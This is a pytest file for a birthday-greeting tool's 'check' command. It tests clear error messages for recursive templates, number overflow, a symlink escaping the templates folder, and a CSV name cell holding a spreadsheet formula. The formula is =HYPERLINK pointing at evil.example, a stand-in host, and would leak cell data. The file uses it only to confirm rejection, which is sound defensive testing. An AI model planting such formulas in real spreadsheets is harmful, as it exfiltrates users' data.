"""What ``check`` says of four mistakes the security re-test met, in words that say what they are.

Before: ``RecursionError: maximum recursion depth exceeded while calling a
Python object`` for a macro that calls itself and for a template that
includes itself; ``refused by the sandbox: (34, 'Numerical result out of
range')`` for ``10.0**400``; ``template not found: leak.j2`` for a symbolic
link in templates/ that points outside it; and a last name
``=HYPERLINK("http://evil.example/?x="&A1,…)`` rejected as lost letters
("export the file again as UTF-8"). Real ``greeter check`` runs.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.conftest import MakeProject, contact_row
from tests.test_send_e2e import greeter_process

#: Among the suite's longest files (CI's --durations): handed out first under xdist (tests/parallel.py).
pytestmark = pytest.mark.slow

BLOCKS = "{%% block subject %%}S{%% endblock %%}{%% block text %%}%s{%% endblock %%}"


@pytest.mark.parametrize(
    ("body", "said"),
    [
        (
            "{% macro f(n) %}{{ f(n+1) }}{% endmacro %}{{ f(0) }}",
            "the macro 'f' calls itself without end: give it a case that stops",
        ),
        (
            "{% include 'birthday.j2' %}",
            "birthday.j2 includes itself without end (an include or import of itself, directly or not)",
        ),
        ("{{ 10.0**400 }}", "number too large: the result is beyond what a number can hold"),
        ("{% include 'leak.j2' %}", "leak.j2 is a symbolic link pointing outside the templates folder"),
    ],
    ids=["macro", "include", "float", "link"],
)
def test_check_says_what_the_template_does(
    make_project: MakeProject, tmp_path: Path, body: str, said: str
) -> None:
    config = make_project([contact_row("1", "one@example.com", birthday="13.04.1980")])
    templates = config.parent / "templates"
    (templates / "birthday.j2").write_text(BLOCKS % body, encoding="utf-8")
    secret = tmp_path.parent / f"{tmp_path.name}-secret.j2"
    secret.write_text("a file outside the folder", encoding="utf-8")
    (templates / "leak.j2").symlink_to(secret)
    run = greeter_process(config, "check")
    assert run.returncode != 0
    assert f"birthday.j2:1:1: {said}" in run.stdout + run.stderr, run.stdout + run.stderr
    assert "RecursionError" not in run.stdout + run.stderr and "(34," not in run.stdout + run.stderr
    assert "a file outside the folder" not in run.stdout + run.stderr


def test_a_formula_in_a_name_is_said_to_be_one_not_lost_letters(make_project: MakeProject) -> None:
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
    quoted_cell = '"' + formula.replace('"', '""') + '"'
    config = make_project([contact_row("1", "one@example.com", last=quoted_cell, birthday="13.04.1980")])
    run = greeter_process(config, "check")
    out = run.stdout + run.stderr
    assert "is a spreadsheet formula, not a name; the row is not loaded" in out, out
    assert "UTF-8" not in out.split("spreadsheet formula")[1].splitlines()[0], out
